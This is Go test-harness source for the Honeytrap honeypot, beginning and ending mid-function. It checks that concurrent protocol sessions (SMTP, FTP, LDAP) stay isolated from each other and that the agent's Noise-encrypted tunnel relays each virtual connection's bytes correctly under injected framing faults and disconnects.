				a.Ops = append(a.Ops, SendOp([]byte("EHLO tls"+tag+".invalid\r\n"), nil, "prelude"), SendOp([]byte("STARTTLS\r\n"), nil, "prelude"))
			} else {
				a.Ops = append(a.Ops, SendOp([]byte("AUTH TLS\r\n"), nil, "prelude"))
			}
			a.Ops = append(a.Ops, Op{K: "starttls"})
		}
		for _, c := range cmds {
			var cuts []int
			if !p.UDP && len(c.Data) > 1 && r.Chance(0.3) {
				// the command arrives in two pieces; other sessions' traffic may fall between them
				cuts = []int{1 + r.Intn(len(c.Data)-1)}
			}
			a.Ops = append(a.Ops, SendOp(c.Data, cuts, c.Note))
		}
		if !p.UDP {
			end := "close"
			if !history && i >= prelude && r.Chance(0.15) {
				end = "reset"
				if len(a.Ops) > 1 {
					a.Ops = a.Ops[:1+r.Intn(len(a.Ops)-1)]
				}
				sc.Faults = append(sc.Faults, "reset")
			} else if r.Chance(0.2) {
				// open, go idle, let the others finish, continue
				pos := r.Intn(len(a.Ops) + 1)
				a.Ops = append(a.Ops[:pos:pos], append([]Op{{K: "nop"}, {K: "nop"}, {K: "nop"}}, a.Ops[pos:]...)...)
			}
			a.Ops = append(a.Ops, Op{K: end})
		}
		if i < prelude {
			preludeSteps += 2
			for _, o := range a.Ops {
				preludeSteps += 1 + len(o.Cuts)
			}
		}
		sc.Actors = append(sc.Actors, a)
	}
	sc.Params["tags"] = strings.Join(tags, ",")
	if history {
		// strictly sequential: schedule always picks the first unfinished actor
		sc.Schedule = nil
		sc.Params["history"] = true
		sc.Class = fmt.Sprintf("%s/history-%d", pn, ns)
	} else {
		sc.Schedule = r.Schedule(64)
		sc.Class = fmt.Sprintf("%s/interleaved-%d", pn, ns)
		if prelude > 0 {
			// tape value 0 picks the first unfinished actor: the prelude sessions run strictly first
			sc.Schedule = append(make([]int, preludeSteps), sc.Schedule...)
			sc.Class = fmt.Sprintf("%s/history-%d+interleaved-%d", pn, prelude, ns-prelude)
			sc.Params["prelude"] = prelude
		}
		if tier == "thorough" && idx%3 == 0 && prelude == 0 {
			// systematic enumeration: the tape is the idx-th interleaving in mixed radix
			k := idx / 3 / len(names)
			for i := range sc.Schedule {
				sc.Schedule[i] = k % ns
				k /= ns
			}
			sc.Class += "/enum"
		}
	}
	if dse {
		sc.Class += "/rootdse"
	}
	sc.DrainMs = 61000
	return sc
}

// berTLV splits one BER element off b (definite lengths, tags < 31): header length, total length, ok.
func berTLV(b []byte) (hl, tl int, ok bool) {
	if len(b) < 2 || b[0]&0x1f == 0x1f {
		return 0, 0, false
	}
	n := int(b[1])
	hl = 2
	if n >= 0x80 {
		k := n & 0x7f
		if k == 0 || k > 4 || len(b) < 2+k {
			return 0, 0, false
		}
		n = 0
		for _, x := range b[2 : 2+k] {
			n = n<<8 | int(x)
		}
		hl = 2 + k
	}
	if n < 0 || hl+n > len(b) {
		return 0, 0, false
	}
	return hl, hl + n, true
}

// ldapCanon renders a stream of LDAP messages with the attribute list of every search result entry sorted: the
// service builds an entry from a map, so the order of its attributes differs from reply to reply; the order of
// the values of one attribute is the configured one and is kept.
func ldapCanon(b []byte) string {
	var sb strings.Builder
	for len(b) > 0 {
		hl, tl, ok := berTLV(b)
		if !ok || b[0] != 0x30 {
			fmt.Fprintf(&sb, "raw %x\n", b)
			break
		}
		msg := b[hl:tl]
		b = b[tl:]
		ihl, itl, ok := berTLV(msg) // message id
		if !ok || itl >= len(msg) || msg[itl] != 0x64 {
			fmt.Fprintf(&sb, "msg %x\n", msg)
			continue
		}
		_ = ihl
		op := msg[itl:]
		ohl, otl, ok := berTLV(op)
		if !ok {
			fmt.Fprintf(&sb, "msg %x\n", msg)
			continue
		}
		body := op[ohl:otl]
		_, dtl, ok := berTLV(body) // object name
		if !ok || dtl >= len(body) || body[dtl] != 0x30 {
			fmt.Fprintf(&sb, "msg %x\n", msg)
			continue
		}
		ahl, atl, ok := berTLV(body[dtl:])
		if !ok {
			fmt.Fprintf(&sb, "msg %x\n", msg)
			continue
		}
		attrs := body[dtl+ahl : dtl+atl]
		var list []string
		bad := false
		for len(attrs) > 0 {
			_, t, ok := berTLV(attrs)
			if !ok {
				bad = true
				break
			}
			list = append(list, fmt.Sprintf("%x", attrs[:t]))
			attrs = attrs[t:]
		}
		if bad {
			fmt.Fprintf(&sb, "msg %x\n", msg)
			continue
		}
		sort.Strings(list)
		fmt.Fprintf(&sb, "entry id=%x dn=%x attrs=%s rest=%x %x\n", msg[:itl], body[:dtl], strings.Join(list, ","), body[dtl+atl:], op[otl:])
	}
	return sb.String()
}

var c03Skip = map[string]bool{
	"ftp.sessionid": true, "http.sessionid": true, "telnet.sessionid": true, "token": true,
}

var ftpPasvRe = regexp.MustCompile(`\((\d+,\d+,\d+,\d+),\d+,\d+\)`)
var ftpRootRe = regexp.MustCompile(`@TMP@/ftp/[0-9a-f]+`)

func c03Transcript(pn string, b []byte, tmp string) string {
	if pn == "ftp" {
		// error replies quote host paths: mask this run's temp dir and the random root directory name
		s := strings.ReplaceAll(string(b), tmp, "@TMP@")
		s = ftpRootRe.ReplaceAllString(s, "@ROOT@")
		// the passive port is drawn at random; the address announced is the connection's own
		s = ftpPasvRe.ReplaceAllString(s, "($1,P,P)")
		return canonLines([]byte(s)) // FEAT lists its extensions in map order
	}
	if pn == "ldap" {
		return ldapCanon(b)
	}
	return string(b)
}

func runC03(t *testing.T, sc *Scenario) Result {
	res := okResult()
	pn := sc.ParamStr("proto", "")
	// every actor is named after its session tag (a minimised scenario may have lost actors)
	var tags []string
	for _, a := range sc.Actors {
		tags = append(tags, a.Name)
	}
	obs := RunScenario(t, sc, nil)
	if pn == "ldap" {
		// search result entries list their attributes in map order: the run digest is taken over the canonical form
		dobs := *obs
		dobs.Conns = append([]ConnObs(nil), obs.Conns...)
		for i := range dobs.Conns {
			dobs.Conns[i].Recv = []byte(ldapCanon(obs.Conns[i].Recv))
		}
		res.Digest = traceDigest(&dobs, c03Skip)
	} else {
		res.Digest = traceDigest(obs, c03Skip)
	}
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	for _, f := range sc.Faults {
		res.fault(f, 1)
	}
	kindSfx := "/interleaved"
	if sc.ParamBool("history") {
		kindSfx = "/history"
	}
	srcOf := map[string]string{}
	for ai, a := range sc.Actors {
		if ai < len(tags) {
			srcOf[tags[ai]] = a.Src
		}
	}
	// (b) tag ownership
	for ai := range sc.Actors {
		for tj, tg := range tags {
			if tj == ai {
				continue
			}
			if bytes.Contains(obs.Conns[ai].Recv, []byte(tg)) {
				res.Violate("response-delivered-to-other-client"+kindSfx, pn, fmt.Sprintf("client %d (%s) received bytes containing session %d's tag %q: %q", ai, sc.Actors[ai].Src, tj, tg, short(string(obs.Conns[ai].Recv), 300)))
				return res
			}
			for _, d := range obs.Conns[ai].Dgrams {
				if bytes.Contains(d, []byte(tg)) {
					res.Violate("response-delivered-to-other-client"+kindSfx, pn, fmt.Sprintf("client %d (%s) received a datagram containing session %d's tag %q", ai, sc.Actors[ai].Src, tj, tg))
					return res
				}
			}
		}
	}
	for _, e := range obs.Events {
		if isHeartbeat(e.M) {
			continue
		}
		line := EventLine(e.M, map[string]bool{"source-ip": true, "source-port": true, "token": true, "ftp.sessionid": true, "http.sessionid": true, "telnet.sessionid": true})
		src := eventSrc(e.M)
		for _, tg := range tags {
			if strings.Contains(line, tg) && src != srcOf[tg] {
				res.Violate("event-carries-other-connections-address"+kindSfx, pn, fmt.Sprintf("an event containing session tag %q (client %s) is attributed to %q: %s", tg, srcOf[tg], src, short(line, 400)))
				return res
			}
		}
	}
	// (a) solo-run equivalence
	for ai := range sc.Actors {
		solo := sc.Clone()
		solo.Actors = []Actor{sc.Actors[ai]}
		// keep the same address; drop idle steps
		so := RunScenario(t, solo, nil)
		res.Runs++
		if so.BootErr != "" {
			res.Violate("infra", "boot", so.BootErr)
			return res
		}
		a := &sc.Actors[ai]
		reset := false
		for _, o := range a.Ops {
			if o.K == "reset" {
				reset = true
			}
		}
		gotT, wantT := c03Transcript(pn, obs.Conns[ai].Recv, obs.TmpDir), c03Transcript(pn, so.Conns[0].Recv, so.TmpDir)
		if gotT != wantT && !reset {
			res.Violate("transcript-differs-from-solo-run"+kindSfx, pn, fmt.Sprintf("client %d (%s, tag %s) received\n%q\nwith %d other sessions, but alone\n%q", ai, a.Src, tags[ai], short(string(obs.Conns[ai].Recv), 500), len(sc.Actors)-1, short(string(so.Conns[0].Recv), 500)))
			return res
		}
		linesC, _ := connEvents(obs, a.Src, c03Skip)
		linesS, _ := connEvents(so, a.Src, c03Skip)
		if a.Kind == "udp" {
			sortTogether(linesC, make([]map[string]interface{}, len(linesC)))
			sortTogether(linesS, make([]map[string]interface{}, len(linesS)))
		}
		if joinLines(linesC) != joinLines(linesS) {
			res.Violate("events-differ-from-solo-run"+kindSfx, pn, fmt.Sprintf("client %d (%s, tag %s): events attributed to it with %d other sessions:\n%s\nalone:\n%s", ai, a.Src, tags[ai], len(sc.Actors)-1, short(joinLines(linesC), 700), short(joinLines(linesS), 700)))
			return res
		}
		res.probe("sessions-compared", 1)
	}
	return res
}
