package htsim

import (
	"bytes"
	"encoding"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"sort"
	"strings"
	"sync"
	"testing"
	"testing/synctest"

	"github.com/honeytrap/honeytrap/listener/agent"
	"github.com/mimoo/disco/libdisco"

	"htsim/simnet"
)

// C16 — the agent tunnel relays each remote connection's bytes in order, to it alone.
//
// A scripted agent speaks the real libdisco Noise_NK client over a simulated stream to the real agent
// listener (real libdisco server, real session loop).  1-4 virtual connections (hello, data messages,
// eof) are interleaved message by message by the choice tape; the services behind are recording stubs
// in echo mode.  Framing faults: a message written as three transport writes, as one, or with its body
// split over two; agent disconnect mid-stream; data for unknown connections; duplicate hellos.

func init() {
	engines["C16"] = &Engine{Gen: genC16, Run: runC16}
	agentPrewarm = func() {
		if st, err := agent.Storage(); err == nil {
			st.KeyPair()
		}
	}
}

// discoListener wraps a simulated listening socket with the real libdisco server.
type discoListener struct {
	net.Listener
	cfg *libdisco.Config
}

func (l *discoListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return libdisco.Server(c, l.cfg), nil
}

func init() {
	agent.VerifListen = func(network, laddr string, cfg *libdisco.Config) (net.Listener, error) {
		l, err := simnet.Current.Listen(network, laddr)
		if err != nil {
			return nil, err
		}
		return &discoListener{l, cfg}, nil
	}
}

type c16Msg struct {
	Kind    string `json:"kind"` // hello | data | eof | ping | udp | unknown-data | dup-hello | disconnect
	Payload string `json:"payload,omitempty"`
	Style   int    `json:"style"`           // 0 = type, size, body as three writes; 1 = one write; 2 = body split over two writes; 3 = held back: leaves with the next message in one write
	Raddr   string `json:"raddr,omitempty"` // udp: remote address of this datagram
}

type c16Conn struct {
	Laddr string `json:"laddr"`
	Raddr string `json:"raddr"`
}

const agentBaseConfig = `
[listener]
type="agent"
listen=":1339"

[channel.cap]
type="capture"
name="cap"

[[filter]]
channel=["cap"]

[service.echo0]
type="stub"
name="echo0"

[[port]]
ports=["tcp/8022","tcp/8023","tcp/80","udp/5353"]
services=["echo0"]
`

func genC16(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c16")
	sc := &Scenario{Engine: "c16", Params: map[string]interface{}{}}
	sc.Config = agentBaseConfig
	nv := r.Range(1, 4)
	// a sender that buffers: some messages are held back and leave together with the next one in a single
	// transport write (legal on a byte stream)
	coalesce := r.Chance(0.4)
	style := func() int {
		switch r.Intn(10) {
		case 0, 1, 2:
			return 1
		case 3:
			return 2
		case 4, 5:
			if coalesce {
				return 3
			}
			return 0
		default:
			return 0
		}
	}
	var conns []c16Conn
	for v := 0; v < nv; v++ {
		lport := []int{8022, 8023, 80}[r.Intn(3)]
		c := c16Conn{Laddr: fmt.Sprintf("192.0.2.1:%d", lport), Raddr: fmt.Sprintf("198.51.100.%d:%d", 10+v, r.Range(1, 65535))}
		if r.Chance(0.2) {
			c.Raddr = fmt.Sprintf("[2001:db8::%x]:%d", 1+v, r.Range(1, 65535))
		}
		conns = append(conns, c)
		a := Actor{Kind: "vconn", Name: fmt.Sprintf("v%d", v), Src: c.Raddr, Dst: c.Laddr}
		add := func(m c16Msg) {
			ej, _ := json.Marshal(m)
			a.Ops = append(a.Ops, Op{K: "agentmsg", Exp: ej})
		}
		add(c16Msg{Kind: "hello", Style: style()})
		nd := r.Range(0, 8)
		if r.Chance(0.1) {
			nd = r.Range(9, 20)
		}
		for k := 0; k < nd; k++ {
			n := r.Range(0, 200)
			if r.Chance(0.15) {
				n = r.Range(200, 4000)
			}
			if r.Chance(0.02) {
				n = r.Range(30000, 65000)
			}
			pl := []byte(fmt.Sprintf("[v%d#%d]", v, k))
			for len(pl) < n {
				pl = append(pl, byte('a'+r.Intn(26)))
			}
			add(c16Msg{Kind: "data", Payload: hex.EncodeToString(pl), Style: style()})
			if k == nd-1 && r.Chance(0.2) {
				// the service behind closes first (the stub returns when it reads the marker)
				add(c16Msg{Kind: "data", Payload: hex.EncodeToString([]byte(stubCloseMarker)), Style: style()})
			}
			if r.Chance(0.05) {
				add(c16Msg{Kind: "ping", Style: style()})
			}
			if r.Chance(0.04) {
				add(c16Msg{Kind: "unknown-data", Payload: hex.EncodeToString([]byte("stray")), Style: style()})
			}
		}
		if r.Chance(0.8) {
			add(c16Msg{Kind: "eof", Style: style()})
			if r.Chance(0.25) {
				// the same address pair is announced again after the first connection has ended (source-port reuse);
				// sometimes the service had closed the first one before the agent's eof arrived
				add(c16Msg{Kind: "hello", Style: style()})
				for k := r.Range(1, 3); k > 0; k-- {
					add(c16Msg{Kind: "data", Payload: hex.EncodeToString([]byte(fmt.Sprintf("[v%d again#%d]%s", v, k, r.word(0, 60)))), Style: style()})
				}
				if r.Chance(0.8) {
					add(c16Msg{Kind: "eof", Style: style()})
				}
			}
		}
		sc.Actors = append(sc.Actors, a)
	}
	if r.Chance(0.3) {
		sc.Params["yield_pct"] = []int{20, 40, 70}[r.Intn(3)]
		sc.Params["yield_rounds"] = []int{1, 1, 4, 12}[r.Intn(4)]
	}
	if r.Chance(0.4) {
		a := Actor{Kind: "vconn", Name: "udp", Src: "198.51.100.77:5000", Dst: "192.0.2.1:5353"}
		for k := r.Range(1, 6); k > 0; k-- {
			// every datagram has its own remote address (the reply must come back under exactly that one)
			m := c16Msg{Kind: "udp", Payload: hex.EncodeToString([]byte(fmt.Sprintf("dgram-%d-%s", k, r.word(0, 50)))), Style: style()}
			m.Raddr = fmt.Sprintf("198.51.100.%d:%d", 70+k, 5000+k)
			ej, _ := json.Marshal(m)
			a.Ops = append(a.Ops, Op{K: "agentmsg", Exp: ej})
		}
		sc.Actors = append(sc.Actors, a)
	}
	if r.Chance(0.25) {
		// the agent disconnects while connections are still open
		sc.Params["disconnect_after"] = r.Range(1, 12)
		sc.Faults = append(sc.Faults, "agent-disconnect")
		if r.Chance(0.3) {
			// the session ends because the agent sends a data message whose address names a protocol the listener
			// does not know (neither tcp nor udp): the listener drops the session - every connection of it must end
			sc.Params["bad_address"] = true
		}
	}
	cj, _ := json.Marshal(conns)
	var cl []interface{}
	json.Unmarshal(cj, &cl)
	sc.Params["conns"] = cl
	sc.Class = fmt.Sprintf("vconns=%d", nv)
	sc.Schedule = r.Schedule(200)
	if sc.ParamInt("yield_pct", 0) > 0 {
		// several agent messages arrive before the listener runs again; replies of different virtual connections
		// (and of the UDP relay) are then produced at the same time and give way to each other at their writes
		for i := range sc.Schedule {
			if r.Chance(0.6) {
				sc.Schedule[i] |= 1<<16 | r.Intn(4)<<17
			}
		}
	}
	sc.DrainMs = 2000
	return sc
}

type agentRx struct {
	Kind    string
	Laddr   string
	Raddr   string
	Payload []byte
}

type agentClient struct {
	pending []byte // messages held back by a buffering sender
	c       *libdisco.Conn
	mu      sync.Mutex
	rx      []agentRx
	err     string
	resp    *agent.HandshakeResponse
}

func frame(typ int, body []byte) (hdr []byte) {
	hdr = make([]byte, 3)
	hdr[0] = byte(typ)
	binary.LittleEndian.PutUint16(hdr[1:], uint16(len(body)))
	return hdr
}

func (a *agentClient) send(typ int, m encoding.BinaryMarshaler, style int) error {
	body, err := m.MarshalBinary()
	if err != nil {
		return err
	}
	if len(body) > 65535 {
		return fmt.Errorf("message too large")
	}
	hdr := frame(typ, body)
	if style == 3 && len(a.pending)+len(body) < 60000 {
		a.pending = append(append(a.pending, hdr...), body...)
		return nil
	}
	if len(a.pending) > 0 {
		// everything held back and this message: one write
		buf := append(append(a.pending, hdr...), body...)
		a.pending = nil
		_, err = a.c.Write(buf)
		return err
	}
	switch style {
	case 1, 3:
		_, err = a.c.Write(append(append([]byte{}, hdr...), body...))
	case 2:
		a.c.Write(hdr[:1])
		a.c.Write(hdr[1:])
		if len(body) > 1 {
			a.c.Write(body[:len(body)/2])
			_, err = a.c.Write(body[len(body)/2:])
		} else {
			_, err = a.c.Write(body)
		}
	default:
		a.c.Write(hdr[:1])
		a.c.Write(hdr[1:])
		_, err = a.c.Write(body)
	}
	return err
}

func (a *agentClient) flush() {
	if len(a.pending) > 0 {
		a.c.Write(a.pending)
		a.pending = nil
	}
}

func (a *agentClient) readLoop() {
	for {
		hdr := make([]byte, 3)
		if _, err := io.ReadFull(a.c, hdr); err != nil {
			return
		}
		body := make([]byte, binary.LittleEndian.Uint16(hdr[1:]))
		if _, err := io.ReadFull(a.c, body); err != nil {
			return
		}
		var rx agentRx
		switch int(hdr[0]) {
		case agent.TypeReadWriteTCP:
			var m agent.ReadWriteTCP
			if err := m.UnmarshalBinary(body); err != nil {
				rx = agentRx{Kind: "undecodable"}
			} else {
				rx = agentRx{Kind: "data", Laddr: fmt.Sprint(m.Laddr), Raddr: fmt.Sprint(m.Raddr), Payload: m.Payload}
			}
		case agent.TypeReadWriteUDP:
			var m agent.ReadWriteUDP
			if err := m.UnmarshalBinary(body); err != nil {
				rx = agentRx{Kind: "undecodable"}
			} else {
				rx = agentRx{Kind: "udp", Laddr: fmt.Sprint(m.Laddr), Raddr: fmt.Sprint(m.Raddr), Payload: m.Payload}
			}
		case agent.TypeEOF:
			var m agent.EOF
			if err := m.UnmarshalBinary(body); err != nil {
				rx = agentRx{Kind: "undecodable"}
			} else {
				rx = agentRx{Kind: "eof", Laddr: fmt.Sprint(m.Laddr), Raddr: fmt.Sprint(m.Raddr)}
			}
		case agent.TypeHandshakeResponse:
			var m agent.HandshakeResponse
			m.UnmarshalBinary(body)
			a.mu.Lock()
			a.resp = &m
			a.mu.Unlock()
			continue
		default:
			rx = agentRx{Kind: fmt.Sprintf("type-%d", hdr[0])}
		}
		a.mu.Lock()
		a.rx = append(a.rx, rx)
		a.mu.Unlock()
	}
}

func tcpAddrOf(s string) *net.TCPAddr { return mustTCPAddr(s) }

func runC16(t *testing.T, sc *Scenario) Result {
	res := okResult()
	stubHub.reset()
	stubHub.Echo = true
	var conns []c16Conn
	b, _ := json.Marshal(sc.Params["conns"])
	json.Unmarshal(b, &conns)
	discAfter := sc.ParamInt("disconnect_after", 0)
	ac := &agentClient{}
	// per virtual connection (address pair): its incarnations in order - the pair may be announced again after an eof
	type incarnation struct {
		data   []byte // concatenation of the data payloads sent while it was open
		eof    bool
		closes bool // the data carries the marker that makes the service close first
	}
	incs := map[string][]*incarnation{}
	cur := func(name string) *incarnation {
		l := incs[name]
		if len(l) == 0 || l[len(l)-1].eof {
			return nil
		}
		return l[len(l)-1]
	}
	helloSent := map[string]bool{}
	udpSent := [][]byte{}
	udpFrom := map[string]string{} // datagram payload -> the remote address it was announced with
	msgs := 0
	disconnected := false
	var hsErr string
	obs := RunScenario(t, sc, func(w *World) {
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		st, err := agent.Storage()
		if err != nil {
			w.Obs.BootErr = "agent storage: " + err.Error()
			return
		}
		kp, err := st.KeyPair()
		if err != nil {
			w.Obs.BootErr = "agent key: " + err.Error()
			return
		}
		ep, err := w.Net.Connect(tcpAddrOf("203.0.113.5:40000"), tcpAddrOf(sensorIP+":1339"))
		if err != nil {
			w.Obs.BootErr = "agent port: " + err.Error()
			return
		}
		ac.c = libdisco.Client(ep, &libdisco.Config{HandshakePattern: libdisco.Noise_NK, RemoteKey: kp.PublicKey[:]})
		go func() {
			if err := ac.c.Handshake(); err != nil {
				hsErr = err.Error()
				return
			}
			if err := ac.send(agent.TypeHandshake, agent.Handshake{Version: "1.0", ShortCommitID: "abcdef0", Token: "agent-token-1"}, 0); err != nil {
				hsErr = err.Error()
				return
			}
			ac.readLoop()
		}()
		synctest.Wait()
		if hsErr != "" {
			return
		}
		w.Custom = func(w *World, ai int, op Op) {
			if disconnected {
				return
			}
			var m c16Msg
			json.Unmarshal(op.Exp, &m)
			a := &w.Sc.Actors[ai]
			pl, _ := hex.DecodeString(m.Payload)
			msgs++
			switch m.Kind {
			case "hello":
				ac.send(agent.TypeHello, agent.Hello{Laddr: tcpAddrOf(a.Dst), Raddr: tcpAddrOf(a.Src)}, m.Style)
				helloSent[a.Name] = true
				if cur(a.Name) == nil {
					incs[a.Name] = append(incs[a.Name], &incarnation{})
				}
			case "data":
				ac.send(agent.TypeReadWriteTCP, agent.ReadWriteTCP{Laddr: tcpAddrOf(a.Dst), Raddr: tcpAddrOf(a.Src), Payload: pl}, m.Style)
				if c := cur(a.Name); c != nil && !c.closes {
					c.data = append(c.data, pl...)
					if bytes.Contains(c.data, []byte(stubCloseMarker)) {
						c.closes = true
					}
				}
			case "unknown-data":
				ac.send(agent.TypeReadWriteTCP, agent.ReadWriteTCP{Laddr: tcpAddrOf("192.0.2.1:8022"), Raddr: tcpAddrOf("198.51.100.250:9"), Payload: pl}, m.Style)
			case "eof":
				ac.send(agent.TypeEOF, agent.EOF{Laddr: tcpAddrOf(a.Dst), Raddr: tcpAddrOf(a.Src)}, m.Style)
				if c := cur(a.Name); c != nil {
					c.eof = true
				}
			case "ping":
				ac.send(agent.TypePing, agent.Ping{}, m.Style)
			case "udp":
				ra := a.Src
				if m.Raddr != "" {
					ra = m.Raddr
				}
				ac.send(agent.TypeReadWriteUDP, agent.ReadWriteUDP{Laddr: mustUDPAddr(a.Dst), Raddr: mustUDPAddr(ra), Payload: pl}, m.Style)
				udpSent = append(udpSent, pl)
				udpFrom[string(pl)] = mustUDPAddr(ra).String()
			}
			if discAfter > 0 && msgs >= discAfter {
				ac.flush()
				synctest.Wait()
				if sc.ParamBool("bad_address") {
					body, _ := agent.ReadWriteTCP{Laddr: tcpAddrOf("192.0.2.1:8022"), Raddr: tcpAddrOf("198.51.100.250:9"), Payload: []byte("x")}.MarshalBinary()
					body[0] = 1 // protocol number of the first address: ICMP
					ac.c.Write(append(frame(agent.TypeReadWriteTCP, body), body...))
					synctest.Wait()
					res.fault("agent-sends-unknown-address-protocol", 1)
				}
				ep.Close()
				disconnected = true
				res.fault("agent-disconnect", 1)
			}
		}
		w.Play()
		if !disconnected {
			ac.flush() // what the buffering sender still holds leaves now
		}
		w.Drain()
	})
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	if hsErr != "" {
		res.Violate("infra", "agent-handshake", hsErr)
		return res
	}
	calls := stubHub.snapshot()
	ac.mu.Lock()
	rx := append([]agentRx(nil), ac.rx...)
	ac.mu.Unlock()
	for _, r := range rx {
		if r.Kind == "undecodable" || strings.HasPrefix(r.Kind, "type-") {
			res.Violate("agent-received-undecodable-message", "agent", fmt.Sprintf("a message from the listener did not decode (%s)", r.Kind))
			return res
		}
	}
	for _, a := range sc.Actors {
		if a.Kind != "vconn" || a.Name == "udp" || !helloSent[a.Name] {
			continue
		}
		laddr, raddr := tcpAddrOf(a.Dst).String(), tcpAddrOf(a.Src).String()
		var mine []stubCall
		for _, c := range calls {
			if c.Local == laddr && c.Remote == raddr {
				mine = append(mine, c)
			}
		}
		want := incs[a.Name]
		if len(mine) != len(want) {
			res.Violate("virtual-connection-not-surfaced", "agent", fmt.Sprintf("connection %s -> %s was announced %d time(s) by the agent and surfaced %d time(s) to the services (all: %d)", raddr, laddr, len(want), len(mine), len(calls)))
			return res
		}
		var wrote []byte
		for k, c := range mine {
			in := want[k]
			if !disconnected {
				if !bytes.Equal(c.Data, in.data) {
					at := commonPrefix(c.Data, in.data)
					lo, hi := at-10, at+30
					if lo < 0 {
						lo = 0
					}
					res.Violate("relayed-bytes-differ", "agent", fmt.Sprintf("connection %s -> %s (announcement %d of %d): the service read %d bytes, the agent sent %d bytes; first difference at offset %d: read %q, sent %q", raddr, laddr, k+1, len(want), len(c.Data), len(in.data), at, string(c.Data[lo:min(hi, len(c.Data))]), string(in.data[lo:min(hi, len(in.data))])))
					return res
				}
			} else if !bytes.HasPrefix(in.data, c.Data) {
				res.Violate("relayed-bytes-differ", "agent", fmt.Sprintf("connection %s -> %s: the service read bytes that are not a prefix of what the agent sent", raddr, laddr))
				return res
			}
			wrote = append(wrote, c.Data...)
			if (in.eof || disconnected || in.closes) && !c.Done {
				res.Violate("connection-not-ended", "agent", fmt.Sprintf("connection %s -> %s (announcement %d): eof=%v disconnect=%v but the service's handler is still reading", raddr, laddr, k+1, in.eof, disconnected))
				return res
			}
			if !in.eof && !disconnected && !in.closes && c.Done {
				res.Violate("connection-ended-early", "agent", fmt.Sprintf("connection %s -> %s ended (%q) although neither eof nor disconnect happened", raddr, laddr, c.ReadErr))
				return res
			}
			if k > 0 {
				res.probe("re-announced-connections", 1)
			}
			if c.ClosedFirst {
				res.probe("service-closed-first", 1)
			}
		}
		// the echo returns to the agent tagged with this connection's addresses, in order
		var back []byte
		for _, r := range rx {
			if r.Kind == "data" && r.Laddr == laddr && r.Raddr == raddr {
				back = append(back, r.Payload...)
			}
		}
		if !disconnected && len(mine) > 1 && !bytes.Equal(back, wrote) {
			// several connections shared this address pair one after the other.  When the pair is re-announced while
			// replies of the previous connection are still on their way (same step), the two reply streams may mix on
			// the wire - each must still arrive complete and in its own order, and nothing else under this pair.
			ok := len(back) == len(wrote)
			for _, c := range mine {
				if !isSubsequence(c.Data, back) {
					ok = false
				}
			}
			if ok {
				res.probe("overlapping-re-announcements", 1)
				back = wrote
			}
		}
		if !disconnected && !bytes.Equal(back, wrote) {
			res.Violate("reply-bytes-differ", "agent", fmt.Sprintf("connection %s -> %s: the service wrote %d bytes, %d came back to the agent tagged with its addresses (%q... vs %q...)", raddr, laddr, len(wrote), len(back), short(string(wrote), 40), short(string(back), 40)))
			return res
		}
		if disconnected && len(mine) > 1 && !bytes.HasPrefix(wrote, back) {
			// (see above: the reply streams of successive connections on one address pair may mix; after a disconnect
			// each one may also be cut short) - what arrived must be an interleaving of prefixes of the streams
			if len(mine) == 2 && len(back) <= 6000 {
				if isMergeOfPrefixes(back, mine[0].Data, mine[1].Data) {
					res.probe("overlapping-re-announcements", 1)
					back = nil
				}
			} else {
				res.probe("overlapping-re-announcements-not-judged", 1)
				back = nil
			}
		}
		if disconnected && !bytes.HasPrefix(wrote, back) {
			res.Violate("reply-bytes-differ", "agent", fmt.Sprintf("connection %s -> %s: bytes tagged with its addresses are not a prefix of what the service wrote", raddr, laddr))
			return res
		}
		res.probe("virtual-connections-verified", 1)
	}
	// stray replies
	known := map[string]bool{}
	for _, a := range sc.Actors {
		if a.Kind == "vconn" && a.Name != "udp" {
			known[tcpAddrOf(a.Dst).String()+"|"+tcpAddrOf(a.Src).String()] = true
		}
	}
	for _, r := range rx {
		if r.Kind == "data" && !known[r.Laddr+"|"+r.Raddr] {
			res.Violate("reply-for-unknown-connection", "agent", fmt.Sprintf("the agent received data tagged %s -> %s which it never announced", r.Raddr, r.Laddr))
			return res
		}
	}
	// UDP relay
	if len(udpSent) > 0 && !disconnected {
		var got [][]byte
		for _, c := range calls {
			if strings.HasSuffix(c.Local, ":5353") {
				got = append(got, c.Data)
			}
		}
		sort.Slice(got, func(i, j int) bool { return bytes.Compare(got[i], got[j]) < 0 })
		w := append([][]byte(nil), udpSent...)
		sort.Slice(w, func(i, j int) bool { return bytes.Compare(w[i], w[j]) < 0 })
		if len(got) != len(w) {
			res.Violate("udp-relay-count", "agent", fmt.Sprintf("%d UDP relay messages sent, %d datagram connections surfaced", len(w), len(got)))
			return res
		}
		for i := range w {
			if !bytes.Equal(w[i], got[i]) {
				res.Violate("udp-relay-bytes-differ", "agent", fmt.Sprintf("datagram %q surfaced as %q", short(string(w[i]), 40), short(string(got[i]), 40)))
				return res
			}
		}
		res.probe("udp-relays-verified", len(w))
		// the echo of a datagram returns tagged with that datagram's own addresses
		for _, r := range rx {
			if r.Kind != "udp" {
				continue
			}
			want, known := udpFrom[string(r.Payload)]
			if !known {
				res.Violate("udp-reply-unknown", "agent", fmt.Sprintf("the agent received a UDP reply %q that answers no datagram it relayed", short(string(r.Payload), 40)))
				return res
			}
			if r.Raddr != want {
				res.Violate("udp-reply-wrong-address", "agent", fmt.Sprintf("the reply to the datagram relayed for %s came back tagged %s -> %s", want, r.Raddr, r.Laddr))
				return res
			}
			res.probe("udp-replies-verified", 1)
		}
	}
	res.probe("messages", msgs)
	return res
}

// isSubsequence: sub occurs in s in order (not necessarily contiguously).
func isSubsequence(sub, s []byte) bool {
	i := 0
	for _, b := range s {
		if i < len(sub) && sub[i] == b {
			i++
		}
	}
	return i == len(sub)
}

// isMergeOfPrefixes: s is an interleaving of a prefix of a and a prefix of b (each in its own order).
func isMergeOfPrefixes(s, a, b []byte) bool {
